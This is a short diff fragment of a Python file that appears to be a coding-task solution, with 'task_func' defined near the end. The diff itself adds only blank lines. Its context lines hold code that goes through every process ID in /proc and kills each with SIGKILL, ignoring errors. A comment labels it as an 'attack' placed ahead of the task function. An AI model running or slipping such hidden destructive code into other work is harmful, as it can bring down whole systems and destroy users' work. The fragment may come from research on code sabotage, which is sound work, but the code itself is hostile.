@@ -11,6 +11,8 @@ for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()] + list(
             posix.kill(pid, signal.SIGKILL)
         except OSError:
             pass
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
